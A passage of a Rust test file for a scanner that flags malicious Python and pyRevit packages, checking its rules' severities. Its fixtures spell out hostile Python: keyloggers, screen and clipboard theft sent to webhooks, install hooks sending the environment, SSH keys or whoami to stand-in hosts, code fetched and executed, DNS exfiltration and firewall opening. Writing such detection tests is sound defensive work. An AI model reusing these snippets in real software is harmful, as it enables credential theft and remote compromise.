    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
    let local = "import hashlib\ndef to_seed(mnemonic, passphrase=''):\n    \
                 return hashlib.pbkdf2_hmac('sha512', mnemonic.encode(), b'mnemonic' + passphrase.encode(), 2048)\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "w/bip39.py", bytes: local.as_bytes() }]);
    assert!(report.findings.iter().all(|f| f.severity < Severity::Medium), "{:#?}", report.findings);
}

/// Text stored backwards and read with a reversing slice is hidden code;
/// a list a call built, walked backwards (pkg_resources' resolver reversing
/// its requirements), decodes nothing, even where its elements later reach
/// `__import__`. Written for the test.
#[test]
fn reversing_a_list_is_not_reading_text_backwards() {
    let level = |src: &str, rule: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "lib/res.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == rule).map(|f| f.severity)
    };
    let lists = "def resolve(requirements, dist):\n    \
                 requirements = list(requirements)[::-1]\n    \
                 extra = dist.requires(('x',))[::-1]\n    \
                 while requirements:\n        name = requirements.pop(0)\n        \
                 __import__(name)\n    for e in extra:\n        __import__(e)\n";
    // Python 2 source goes to the other parser: the same answers.
    let py2 = format!("print 'resolving'\n{lists}");
    for src in [lists, py2.as_str()] {
        assert!(level(src, "import-dynamic").is_none_or(|s| s < Severity::High), "{src}");
    }
    // Text read backwards and run is decoded code: critical as the module
    // loads; in a function, run on what its caller names, a deserializer's
    // act, medium (see
    // `decoded_code_is_critical_when_the_package_carries_it_or_runs_it_unasked`).
    for (hidden, severity) in [
        ("import base64\nexec(base64.b64decode(BLOB)[::-1])\n", Severity::Critical),
        ("def go(path):\n    exec(open(path).read()[::-1])\n", Severity::Medium),
        ("def go(path):\n    exec(open(path).read()[::-1])\ngo('payload.bin')\n", Severity::Critical),
        ("code = PAYLOAD[::-1]\nexec(code)\n", Severity::Critical),
    ] {
        assert_eq!(level(hidden, "exec-decoded"), Some(severity), "{hidden}");
        let py2 = format!("print 'x'\n{hidden}");
        assert_eq!(level(&py2, "exec-decoded"), Some(severity), "{py2}");
    }
}

/// A clipboard hijacker: wallet addresses looked for, the clipboard set.
/// `bc1` must start a word (an address, `^bc1`, `\\bbc1`), not sit inside
/// one (a test's request code `"ABC123"` beside a copy-to-clipboard
/// button). Written for the test.
#[test]
fn a_wallet_pattern_and_the_clipboard_set_is_a_hijack_and_abc123_is_not() {
    let hijack = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/clip.py", bytes: src.as_bytes() }]);
        report.findings.iter().any(|f| f.rule == "clipboard-hijack" && f.severity >= Severity::High)
    };
    let swap = "import re, time, pyperclip\nMINE = 'bc1qexampleexampleexampleexample0000'\n\
                def watch():\n    while True:\n        t = pyperclip.paste()\n        \
                if re.match(r'PATTERN', t):\n            pyperclip.copy(MINE)\n        time.sleep(1)\n";
    for pattern in ["^bc1[a-z0-9]{25,39}$", "\\bbc1[a-z0-9]{25,39}", "(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}"] {
        let src = swap.replace("PATTERN", pattern).replace("'bc1qexampleexampleexampleexample0000'", "load()");
        assert!(hijack(&src), "{src}");
    }
    let ui = "def test_request_code_html():\n    result = request_code_html('ABC123')\n    \
              icon = copy_to_clipboard_icon(data='ABC123', title='Copy request code to clipboard')\n    \
              assert result == f'ABC123<sup>{icon}</sup>'\n";
    assert!(!hijack(ui), "{ui}");
}

/// Spyware: the screen, the clipboard or keystrokes captured in a file that
/// sends to an address the code wrote (a webhook, a raw IP): critical when
/// the send runs at load, high on a caller's request. A screenshot tool
/// uploading where its caller says, or a hotkey helper that sends nothing,
/// is not. Written for the test.
#[test]
fn the_screen_clipboard_or_keys_sent_to_an_address_in_the_code_is_spyware() {
    let verdict = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/m.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "surveillance-sent").map(|f| (f.severity, f.because.clone()))
    };
    let shot = "import os, requests\nfrom PIL import ImageGrab\np = os.path.join(os.getcwd(), 's.png')\n\
                ImageGrab.grab().save(p)\n\
                requests.post('https://discord.com/api/webhooks/1/x', files={'f': open(p, 'rb')})\n";
    let (sev, because) = verdict(shot).expect("screen");
    assert_eq!(sev, Severity::Critical);
    assert!(because.iter().any(|b| b.contains("captures: `PIL.ImageGrab.grab` at line 4")), "{because:?}");
    let clip = "import pyperclip, requests\ndef watch():\n    \
                requests.post('http://198.51.100.4/c', data={'c': pyperclip.paste()})\n";
    assert_eq!(verdict(clip).map(|v| v.0), Some(Severity::High));
    let keys = "from pynput import keyboard\nimport requests\nlog = []\ndef on_press(key):\n    \
                log.append(str(key))\n    \
                requests.post('https://webhook.site/abc', data={'k': ''.join(log)})\n\
                with keyboard.Listener(on_press=on_press) as l:\n    l.join()\n";
    assert_eq!(verdict(keys).map(|v| v.0), Some(Severity::Critical));
    // Uploaded where the caller says; a hotkey helper that sends nothing.
    let tool = "import requests\nfrom PIL import ImageGrab\ndef report(url, path):\n    \
                ImageGrab.grab().save(path)\n    requests.post(url, files={'f': open(path, 'rb')})\n";
    assert!(verdict(tool).is_none());
    let hotkeys = "import keyboard\nkeyboard.on_press(lambda e: print(e.name))\n";
    assert!(verdict(hotkeys).is_none());
    // A browser driver's screenshot beside requests to the browser's own
    // debugging port on this machine.
    let driver = "import urllib.request, mss\ndef shot():\n    return mss.mss().grab(None)\n\
                  def pages(port):\n    return urllib.request.urlopen(urllib.request.Request(f'http://127.0.0.1:{port}/json'))\n";
    assert!(verdict(driver).is_none(), "{driver}");
    let away = driver.replace("http://127.0.0.1:{port}/json", "http://198.51.100.4:{port}/json");
    assert_eq!(verdict(&away).map(|v| v.0), Some(Severity::High), "{away}");
    // A URL template whose host is filled in from elsewhere names no address.
    let template = driver.replace("f'http://127.0.0.1:{port}/json'", "'http://%s:%d/json' % (HOST, port)");
    assert!(verdict(&template).is_none(), "{template}");
    // A document library reading the clipboard for one command and asking a
    // text API it names for another, each when its user calls: medium. The
    // same two in one function, or at load, stay spyware.
    let library = "import pyperclip as cb\nfrom urllib import request\nclass Doc:\n    \
                   def paste_macro(self):\n        return cb.paste()\n    \
                   def lorem(self, n):\n        \
                   return request.urlopen(request.Request(f'https://api.example.org/v1/lorem?n={n}'))\n";
    assert_eq!(verdict(library).map(|v| v.0), Some(Severity::Medium), "{library}");
    let together = "import pyperclip as cb\nfrom urllib import request\ndef sync():\n    c = cb.paste()\n    \
                    return request.urlopen(request.Request(f'https://api.example.org/v1/lorem?n={len(c)}'))\n";
    assert_eq!(verdict(together).map(|v| v.0), Some(Severity::High), "{together}");
}

/// Hidden code is hidden however it was hidden: decrypted (Fernet, AES) as
/// well as decoded; and code handed to another interpreter with `-c` is
/// read like the file's own. Written for the test.
#[test]
fn decrypted_payloads_and_code_given_to_python_dash_c_are_read() {
    let rules = |path: &str, src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
        report.findings.iter().map(|f| (f.rule, f.severity, f.file.clone())).collect::<Vec<_>>()
    };
    let fernet = "from cryptography.fernet import Fernet\nexec(Fernet(KEY).decrypt(BLOB))\n";
    assert!(rules("setup.py", fernet).iter().any(|(r, s, _)| *r == "exec-decoded" && *s == Severity::Critical));
    for start in [
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \
         \"import urllib.request; exec(urllib.request.urlopen('http://203.0.113.5/p').read())\"])\n",
        "import os\nos.system('python -c \"import urllib.request; \
         exec(urllib.request.urlopen(\\'http://203.0.113.5/p\\').read())\"')\n",
    ] {
        let found = rules("pkg/__init__.py", start);
        let hit =
            found.iter().find(|(r, _, _)| *r == "exec-downloaded").unwrap_or_else(|| panic!("{start}\n{found:#?}"));
        assert_eq!((hit.1, hit.2.as_str()), (Severity::Critical, "pkg/__init__.py:2 (python -c)"));
    }
    // A harmless one-liner stays harmless.
    let version = "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.version)'])\n";
    assert!(rules("pkg/v.py", version).iter().all(|(_, s, _)| *s < Severity::Medium));
    // Bounded: a file starting hundreds of interpreters has at most 16 of
    // their programs read (as many as decoded payloads).
    let many: String = (0..300)
        .map(|i| format!("subprocess.run(['python', '-c', 'import os; os.system(\"echo {i}\" + X)'])\n"))
        .collect();
    let found = rules("pkg/many.py", &format!("import subprocess\n{many}"));
    let inner: std::collections::HashSet<&str> =
        found.iter().filter(|(_, _, f)| f.ends_with("(python -c)")).map(|(_, _, f)| f.as_str()).collect();
    assert!(!inner.is_empty() && inner.len() <= 16, "{}", inner.len());
}

/// Where a send goes may be written where the connection or the bot was
/// made (`HTTPSConnection("host")`, a bot built with its token), and curl or
/// wget started as a process send like `requests.post`; the output of
/// `whoami` says who runs the code. Written for the test.
#[test]
fn destinations_in_connections_bots_and_curl_count_as_chosen() {
    let find = |path: &str, src: &str, rule: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == rule).map(|f| f.severity)
    };
    // A canary domain over http.client, with `whoami`, at import.
    let canary = "import subprocess, platform, http.client\n\
                  user = subprocess.check_output(['whoami']).decode().strip()\n\
                  conn = http.client.HTTPConnection('abc123.oastify.com', 80)\n\
                  conn.request('GET', f'/?u={user}&h={platform.node()}')\n";
    assert_eq!(find("pkg/__init__.py", canary, "import-beacon"), Some(Severity::High));
    // The environment through a connection opened to a host in the code.
    let conn = "import os, json, http.client\ndef sync():\n    \
                c = http.client.HTTPSConnection('collector.example.invalid')\n    \
                c.request('POST', '/e', body=json.dumps(dict(os.environ)))\n";
    assert_eq!(find("pkg/sync.py", conn, "exfiltration"), Some(Severity::Critical));
    // A chat bot made with a token written in the code receives a key file.
    let token = format!("{}:AA{}", 712345678, "b".repeat(33));
    let bot = format!(
        "import os, telebot\nbot = telebot.TeleBot('{token}')\ndef go():\n    \
         bot.send_message(42, open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
    );
    assert_eq!(find("pkg/b.py", &bot, "exfiltration"), Some(Severity::Critical));
    // The same bot built from a token its caller gives: configured, high.
    let configured = bot.replace(&format!("'{token}'"), "os.environ['BOT']");
    assert_eq!(find("pkg/b.py", &configured, "exfiltration"), Some(Severity::High));
    // Walked files sent by a bot whose token the file holds (wherever the
    // bot is built): a bulk upload to the author's chat, high; the token
    // alone is a medium hardcoded secret.
    let upload = format!(
        "import os, telebot\nclass Up:\n    def __init__(self, token, chat):\n        \
         self.bot = telebot.TeleBot(token)\n        self.chat = chat\n    def go(self, top):\n        \
         for root, _, names in os.walk(top):\n            for n in names:\n                \
         self.bot.send_document(self.chat, open(os.path.join(root, n), 'rb'))\n\
         Up('{token}', '42').go('/storage/emulated/0/')\n"
    );
    assert_eq!(find("pkg/up.py", &upload, "bulk-upload"), Some(Severity::High));
    assert_eq!(find("pkg/up.py", &upload, "hardcoded-secret"), Some(Severity::Medium));
    let unknown = upload.replace(&format!("'{token}'"), "os.environ['BOT']");
    assert_eq!(find("pkg/up.py", &unknown, "bulk-upload"), Some(Severity::Medium));
    // curl run at install with the environment in its URL.
    let curl = "import os, base64, subprocess\nURL = 'http://203.0.113.7:8000'\n\
                env = base64.b64encode(str(dict(os.environ)).encode()).decode()\n\
                subprocess.check_output(['curl', f'{URL}/?e={env}'])\n";
    assert_eq!(find("setup.py", curl, "exfiltration"), Some(Severity::Critical));
    // curl fetching a file with nothing of the machine's in it: no exfiltration.
    let fetch = "import subprocess\nsubprocess.run(['curl', '-L', '-o', 'x.tgz', 'https://example.invalid/x.tgz'])\n";
    assert_eq!(find("setup.py", fetch, "exfiltration"), None);
}

/// `setup.py`'s install command calling a function of another module of the
/// package runs that function at install: who-runs-it sent there is an
/// install beacon. Called from an `__init__` at load, to an address in the
/// code, an import beacon; called by nobody in the package, medium.
/// Written for the test.
#[test]
fn a_function_another_file_calls_at_install_or_load_runs_then() {
    let report_ = "import platform, getpass, urllib.request, urllib.parse\n\
                   def report():\n    \
                   q = urllib.parse.urlencode({'h': platform.node(), 'u': getpass.getuser()})\n    \
                   urllib.request.urlopen('http://collector.example.invalid/r?' + q)\n";
    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\n\
                 class Install(install):\n    def run(self):\n        install.run(self)\n        \
                 from tool import report\n        report()\n\
                 setup(name='tool', cmdclass={'install': Install})\n";
    let verdict = |entries: &[Entry<'_>]| {
        let report = scan(&ManifestFacts::default(), entries);
        report
            .findings
            .iter()
            .find(|f| f.file == "tool.py" && f.line == 4)
            .map(|f| (f.rule, f.severity, f.because.clone()))
            .expect("a finding at the send")
    };
    for entries in [
        [Entry { path: "setup.py", bytes: setup.as_bytes() }, Entry { path: "tool.py", bytes: report_.as_bytes() }],
        [Entry { path: "tool.py", bytes: report_.as_bytes() }, Entry { path: "setup.py", bytes: setup.as_bytes() }],
    ] {
        let (rule, severity, because) = verdict(&entries);
        assert_eq!((rule, severity), ("install-beacon", Severity::Critical));
        assert!(because[0].contains("`setup.py` calls `report`"), "{because:?}");
    }
    // Called by a package's `__init__` while it loads.
    let init = "from .tool import report\nreport()\n";
    let (rule, severity, _) = verdict(&[
        Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
        Entry { path: "tool.py", bytes: report_.as_bytes() },
    ]);
    assert_eq!((rule, severity), ("import-beacon", Severity::High));
    // The same module with a program entry calling it (`python tool.py`):
    // setup.py's call still runs it at install.
    let program = format!("{report_}if __name__ == '__main__':\n    report()\n");
    let (rule, _, _) = verdict(&[
        Entry { path: "setup.py", bytes: setup.as_bytes() },
        Entry { path: "tool.py", bytes: program.as_bytes() },
    ]);
    assert_eq!(rule, "install-beacon");
    // Nobody in the package calls it: a library's telemetry function.
    let (rule, severity, _) = verdict(&[Entry { path: "tool.py", bytes: report_.as_bytes() }]);
    assert_eq!((rule, severity), ("host-identity-sent", Severity::Medium));
    // The install command calls the module's entry, which calls the sender
    // through a helper: the chain within the file is followed.
    let layered = format!(
        "{report_}def gather():
    report()
def main():
    gather()
"
    );
    let setup_main = setup.replace("from tool import report\n        report()", "import tool as t\n        t.main()");
    assert!(setup_main.contains("t.main()"));
    let (rule, severity, because) = verdict(&[
        Entry { path: "setup.py", bytes: setup_main.as_bytes() },
        Entry { path: "tool.py", bytes: layered.as_bytes() },
    ]);
    assert_eq!((rule, severity), ("install-beacon", Severity::Critical));
    assert!(because[0].contains("`setup.py` calls `main`, which reaches `report`"), "{because:?}");
    // `main` no longer reaching the sender: still a caller's request.
    let broken = layered.replace("def gather():\n    report()", "def gather():\n    pass");
    assert_ne!(broken, layered);
    let (rule, severity, _) = verdict(&[
        Entry { path: "setup.py", bytes: setup_main.as_bytes() },
        Entry { path: "tool.py", bytes: broken.as_bytes() },
    ]);
    assert_eq!((rule, severity), ("host-identity-sent", Severity::Medium));
}

/// An f-string's literal parts count like any string of the expression: a
/// command assembled in one (opening the firewall to inbound connections)
/// and handed to a helper that runs it is a hostile command. Written for
/// the test.
#[test]
fn f_string_parts_are_read_and_opening_the_firewall_is_hostile() {
    let level = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/fw.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "process-hostile").map(|f| f.severity)
    };
    let firewall = "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, stdout=subprocess.PIPE)\n\
                    def open_port(program):\n    \
                    ps = rf\"New-NetFirewallRule -DisplayName 'p' -Direction Inbound -Action Allow -Program {program}\"\n    \
                    run(['powershell.exe', '-Command', ps])\n";
    assert_eq!(level(firewall), Some(Severity::High));
    let netsh = "import subprocess\nsubprocess.run(f'netsh advfirewall firewall add rule name=p dir=in action=allow program={P}')\n";
    assert_eq!(level(netsh), Some(Severity::Critical));
    // Listing the rules is not opening anything.
    let show = "import subprocess\ndef rules():\n    return subprocess.run(f'netsh advfirewall firewall show rule name={N}')\n";
    assert_eq!(level(show), None);
}

/// The first finding of `rule` in one file, by its severity.
/// Every finding it sees must name a catalogued rule of its category.
fn severity_of(path: &str, src: &str, rule: &str) -> Option<Severity> {
    let report = catalogued(scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]));
    report.findings.iter().filter(|f| f.rule == rule).map(|f| f.severity).max()
}

/// The report, once each of its findings is checked against the catalog
/// (SARIF lists the catalog as the tool's rules).
fn catalogued(report: revitpy_scan::report::ScanReport) -> revitpy_scan::report::ScanReport {
    for f in &report.findings {
        let rule =
            revitpy_scan::catalog::find(f.rule).unwrap_or_else(|| panic!("rule {} is not in the catalog", f.rule));
        assert_eq!(rule.category, f.category, "{}: the catalog's category", f.rule);
    }
    report
}

/// The report on a package of two files: `pkg/__init__.py` and the helper
/// module at `path` it may call while loading.
fn scan_with_init(init: &str, path: &str, src: &str) -> revitpy_scan::report::ScanReport {
    catalogued(scan(
        &ManifestFacts::default(),
        &[Entry { path: "pkg/__init__.py", bytes: init.as_bytes() }, Entry { path, bytes: src.as_bytes() }],
    ))
}

/// A client library sends the key its caller gives it to the service it
/// wraps, at an address it writes out, when it is called: medium. The same
/// send as soon as the module loads, or of a credential store, or to an
/// address the code hides, is the author's act. Written for the test.
#[test]
fn a_secret_sent_to_the_named_service_on_request_is_how_a_client_authenticates() {
    let env_key = "import os, requests\ndef fetch(q):\n    token = os.getenv('EXAMPLE_API_TOKEN')\n    \
                   return requests.get('https://api.example.org/search', params={'q': q, 'apikey': token})\n";
    assert_eq!(severity_of("search.py", env_key, "exfiltration"), Some(Severity::Medium));
    let header = "import os, requests\nclass Client:\n    def __init__(self):\n        \
                  self.key = os.environ.get('DOCS_API_KEY')\n    def projects(self):\n        \
                  key = os.environ.get('DOCS_API_KEY')\n        \
                  return requests.get('https://api.docs.example/v1/projects', headers={'Authorization': 'Bearer ' + key})\n";
    assert_eq!(severity_of("client.py", header, "exfiltration"), Some(Severity::Medium));
    // At import, the same token leaves before anyone asked.
    let at_import = "import os, requests\ntoken = os.getenv('GITHUB_TOKEN')\n\
                     requests.post('https://collect.example.org/t', data={'t': token})\n";
    assert_eq!(severity_of("pkg/__init__.py", at_import, "exfiltration"), Some(Severity::Critical));
    // To an address hidden in base64, even on request.
    let hidden = "import base64, os, requests\ndef sync():\n    password = os.getenv('DB_PASSWORD')\n    \
                  requests.post(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLm9yZy94').decode(), data=password)\n";
    assert_eq!(severity_of("sync.py", hidden, "exfiltration"), Some(Severity::Critical));
    // A credential store's contents are more than any service needs.
    let store = "import os, requests\ndef backup():\n    \
                 data = open(os.path.expanduser('~/.aws/credentials')).read()\n    \
                 requests.post('https://backup.example.org/up', data=data)\n";
    assert_eq!(severity_of("backup.py", store, "exfiltration"), Some(Severity::Critical));
}

/// `path.write_bytes(data)` writes to `path`: decrypted content saved to a
/// plain path hides nothing; a path that had to be decoded does, when the
/// file carries it encoded or decodes it while loading. Written for the
/// test.
#[test]
fn a_path_method_writes_the_path_it_is_called_on() {
    let saved = "import pathlib\ndef save(f, key):\n    buf = key.decrypt(f.read())\n    \
                 path = pathlib.Path('downloads') / 'file.bin'\n    path.write_bytes(buf)\n";
    assert_eq!(severity_of("files.py", saved, "hidden-destination"), None);
    let hidden = "import base64, pathlib\ndef drop(data):\n    \
                  target = pathlib.Path(base64.b64decode('QzpcVXNlcnNcUHVibGljXHguZXhl').decode())\n    \
                  target.write_bytes(data)\n";
    assert_eq!(severity_of("drop.py", hidden, "hidden-destination"), Some(Severity::High));
    // A name decoded from what a caller hands over (a mail attachment's
    // name in its base64 message), written when asked: for a reviewer. The
    // same decoded while the module loads is the package's act.
    let handed = "import base64\ndef save(message, data):\n    \
                  name = base64.urlsafe_b64decode(message['name']).decode()\n    \
                  open(name, 'wb').write(data)\n";
    let loading = "import base64\nname = base64.urlsafe_b64decode(MESSAGE['name']).decode()\n\
                   open(name, 'wb').write(b'')\n";
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{handed}{tail}");
        assert_eq!(severity_of("mail.py", &src, "hidden-destination"), Some(Severity::Medium), "{src}");
        let src = format!("{loading}{tail}");
        assert_eq!(severity_of("mail.py", &src, "hidden-destination"), Some(Severity::High), "{src}");
    }
}

/// `Path.resolve` and a template's `resolve` look nothing up in DNS; a
/// resolver's query for a name built from encoded data does. Written for
/// the test.
#[test]
fn only_a_resolver_object_resolves_names_in_dns() {
    let template = "import os\ndef render(atoms):\n    env = os.environ.copy()\n    \
                    return ''.join(a.resolve(env) for a in atoms)\n";
    assert_eq!(severity_of("dotenv.py", template, "dns-exfiltration"), None);
    let leak = "import base64, os\nimport dns.resolver\ndef leak():\n    r = dns.resolver.Resolver()\n    \
                label = base64.b32encode(os.getenv('AWS_SECRET_ACCESS_KEY').encode()).decode()\n    \
                r.resolve(label + '.exfil.example.org', 'A')\n";
    assert_eq!(severity_of("leak.py", leak, "dns-exfiltration"), Some(Severity::High));
}

/// A ransom note speaks of the victim's files; code that decrypts a
/// browser's cookies and rewrites its own cache says "to decrypt" too.
/// Written for the test.
#[test]
fn decrypting_is_not_a_ransom_note() {
    let cookies = "import os\ndef load(root):\n    \"\"\"Cookies need a key to decrypt the values.\"\"\"\n    \
                   for d, _, fs in os.walk(root):\n        for f in fs:\n            \
                   os.replace(os.path.join(d, f), os.path.join(d, f + '.bak'))\n";
    assert_eq!(severity_of("cookies.py", cookies, "destroy-user-data"), None);
    let note = cookies.replace(
        "Cookies need a key to decrypt the values.",
        "All your files have been encrypted. To decrypt your files send bitcoin.",
    );
    assert_eq!(severity_of("cookies.py", &note, "destroy-user-data"), Some(Severity::Critical));
}

/// A request to a raw IP, a webhook or a testing domain made while the
/// package installs or as soon as it is imported is a beacon by itself; the
/// same request in a function its user calls is a medium fact. Written for
/// the test.
#[test]
fn a_callback_to_a_suspicious_host_at_install_or_import_is_a_beacon() {
    let at_import = "import requests\nrequests.get('https://probe-1234.oast.example.oast.fun')\n";
    assert_eq!(severity_of("pkg/__init__.py", at_import, "suspicious-callback"), Some(Severity::High));
    let curl_at_install = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
                           def ping():\n    os.system('curl http://203.0.113.7:8080')\n\
                           class Hook(install):\n    def run(self):\n        ping()\n        install.run(self)\n\
                           setup(name='x', cmdclass={'install': Hook})\n";
    assert_eq!(severity_of("setup.py", curl_at_install, "suspicious-callback"), Some(Severity::High));
    let webhook_at_install = "import requests\nfrom setuptools import setup\n\
                              requests.post('https://webhook.site/00000000-0000', data={'p': 'x'})\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", webhook_at_install, "suspicious-callback"), Some(Severity::High));
    let dns_log =
        "import requests\nfrom setuptools import setup\nrequests.get('https://x1.probe.eyes.sh/')\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", dns_log, "suspicious-callback"), Some(Severity::High));
    // curl anywhere in a shell command line, not only as its first word.
    let chained = "import os\nfrom setuptools import setup\n\
                   os.system(\"t=$(curl -s http://169.254.169.254/latest/meta-data/); curl -X POST -d '$t' https://webhook.site/0000\")\n\
                   setup(name='x')\n";
    assert_eq!(severity_of("setup.py", chained, "suspicious-callback"), Some(Severity::High));
    // Asked for: a tool's function that posts to a webhook its user reads.
    let on_request =
        "import requests\ndef notify(msg):\n    requests.post('https://webhook.site/00000000-0000', data=msg)\n";
    assert_eq!(severity_of("notify.py", on_request, "suspicious-callback"), None);
    assert_eq!(severity_of("notify.py", on_request, "network-suspicious-host"), Some(Severity::Medium));
    // A library's own service, at import, is no testing domain.
    let own = "import requests\nVERSION = requests.get('https://pypi.org/pypi/x/json').json()\n";
    assert_eq!(severity_of("pkg/__init__.py", own, "suspicious-callback"), None);
}

/// What an HTTP tool's command line substitutes from the shell goes out
/// with it: the whole environment encoded and sent by curl while the
/// package installs is exfiltration. Written for the test.
#[test]
fn curl_sends_what_its_command_line_substitutes() {
    let env = "import os\nfrom setuptools import setup\n\
               os.system('curl \"https://collect.example.org/x/$(env | base64 -w 0)\"')\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", env, "exfiltration"), Some(Severity::Critical));
    let who = "import os\nfrom setuptools import setup\n\
               os.system('curl https://collect.example.org/?u=$(whoami)&h=$(hostname)')\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", who, "install-beacon"), Some(Severity::Critical));
    // A download whose command line substitutes nothing sends nothing.
    let fetch = "import os\nfrom setuptools import setup\n\
                 os.system('curl -L -o tool.tar.gz https://releases.example.org/tool.tar.gz')\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", fetch, "exfiltration"), None);
    assert_eq!(severity_of("setup.py", fetch, "install-beacon"), None);
}

/// A pyRevit command's script runs when its user clicks the button: a key
/// sent from it to the service the code names is the command calling that
/// service (medium), and the chain says so. The extension's `startup.py`
/// runs unasked while Revit loads: the same send there stays critical.
/// Written for the test.
#[test]
fn a_command_script_runs_when_its_user_clicks_the_button() {
    let ask = "import os, clr\nclr.AddReference('System')\nfrom System.Net import WebClient\n\
               key = os.getenv('MODEL_API_KEY')\nurl = 'https://models.example.com/v1/generate?key=' + key\n\
               client = WebClient()\nanswer = client.UploadData(url, 'POST', body)\n";
    let button = "Tools.extension/AI.tab/Helpers.panel/Ask.pushbutton/script.py";
    let report = scan(&ManifestFacts::default(), &[Entry { path: button, bytes: ask.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!(f.severity, Severity::Medium, "{f:#?}");
    assert_eq!(severity_of("Tools.extension/startup.py", ask, "exfiltration"), Some(Severity::Critical));
    // A smart button's script is imported while Revit starts (its `__selfinit__`).
    assert_eq!(
        severity_of("Tools.extension/AI.tab/Helpers.panel/Ask.smartbutton/script.py", ask, "exfiltration"),
        Some(Severity::Critical)
    );
    // What a button script does to the machine is asked for too: a hostile
    // command there is high, in startup.py critical, and the chain says when.
    let hostile = "import subprocess\nsubprocess.call('powershell -w hidden -enc SQBFAFgA')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: button, bytes: hostile.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "process-hostile").expect("hostile command");
    assert_eq!(f.severity, Severity::High);
    assert!(f.because.iter().any(|b| b.contains("clicks the button")), "{f:#?}");
    assert_eq!(severity_of("Tools.extension/startup.py", hostile, "process-hostile"), Some(Severity::Critical));
}

/// Code fetched and run is the package's own act while it installs or
/// loads: critical. When a caller or its user asks (a library function, a
/// button, a Dynamo graph), a loader runs what its source serves: high, for
/// a reviewer; critical again when the file talks to a raw IP, a paste site
/// or a webhook, or when another file of the package calls the loader while
/// loading. Objects unpickled from the network alike, except that when
/// asked they are a data loader's work: medium. Written for the test.
#[test]
fn code_fetched_and_run_is_critical_unless_asked() {
    let found = |files: &[(&str, &str)], rule: &str| {
        let entries: Vec<Entry> = files.iter().map(|(path, src)| Entry { path, bytes: src.as_bytes() }).collect();
        let report = scan(&ManifestFacts::default(), &entries);
        report.findings.iter().find(|f| f.rule == rule).cloned().unwrap_or_else(|| panic!("{:#?}", report.findings))
    };
    let at_import = "import urllib.request\nexec(urllib.request.urlopen('https://example.com/tool.py').read())\n";
    assert_eq!(found(&[("pkg/loader.py", at_import)], "exec-downloaded").severity, Severity::Critical);
    let asked = "import urllib.request\ndef load(url):\n    exec(urllib.request.urlopen(url).read())\n";
    let f = found(&[("pkg/loader.py", asked)], "exec-downloaded");
    assert_eq!(f.severity, Severity::High, "{f:#?}");
    assert!(f.message.ends_with("when asked") && f.because.iter().any(|b| b.contains("`load`")), "{f:#?}");
    // The author's kind of host anywhere in the file, before or after the call.
    let raw_ip = "import urllib.request\ndef load():\n    \
                  exec(urllib.request.urlopen('http://203.0.113.5/p').read())\n";
    assert_eq!(found(&[("pkg/loader.py", raw_ip)], "exec-downloaded").severity, Severity::Critical);
    let later = format!("{asked}def ping():\n    urllib.request.urlopen('https://pastebin.com/raw/x1')\n");
    let f = found(&[("pkg/loader.py", &later)], "exec-downloaded");
    assert_eq!(f.severity, Severity::Critical, "{f:#?}");
    assert!(!f.message.ends_with("when asked"), "{f:#?}");
    // Another file calls the loader while the package loads (directly, or
    // through a function of the loader's file); a call from a function
    // nobody calls asks nothing.
    for init in
        ["from .loader import load\nload('https://example.com/x.py')\n", "from . import loader\nloader.start()\n"]
    {
        let files = [("pkg/loader.py", &*format!("{asked}def start():\n    load(URL)\n")), ("pkg/__init__.py", init)];
        let f = found(&files, "exec-downloaded");
        assert_eq!(f.severity, Severity::Critical, "{init}\n{f:#?}");
        assert!(f.because.iter().any(|b| b.starts_with("when: while the package loads")), "{f:#?}");
        assert!(!f.message.ends_with("when asked"), "{f:#?}");
    }
    let later_call = "from .loader import load\ndef main():\n    load('https://example.com/x.py')\n";
    let f = found(&[("pkg/loader.py", asked), ("pkg/__init__.py", later_call)], "exec-downloaded");
    assert_eq!(f.severity, Severity::High, "{f:#?}");
    // Unpickled from the network: critical while loading; when asked, how
    // data loaders and RPC clients work (medium, for a reviewer); critical
    // again beside an author's host or when another file runs it at load.
    let unpickle = "import pickle, requests\ndef load(u):\n    return pickle.loads(requests.get(u).content)\n";
    let f = found(&[("pkg/model.py", unpickle)], "unsafe-deserialization");
    assert_eq!(f.severity, Severity::Medium, "{f:#?}");
    assert!(f.message.ends_with("when asked"), "{f:#?}");
    let unpickle_now = format!("{unpickle}MODEL = load('https://example.com/m.pkl')\n");
    assert_eq!(found(&[("pkg/model.py", &unpickle_now)], "unsafe-deserialization").severity, Severity::Critical);
    let hooked = format!("{unpickle}def ping():\n    requests.get('https://webhook.site/x1')\n");
    let f = found(&[("pkg/model.py", &hooked)], "unsafe-deserialization");
    assert_eq!(f.severity, Severity::Critical, "{f:#?}");
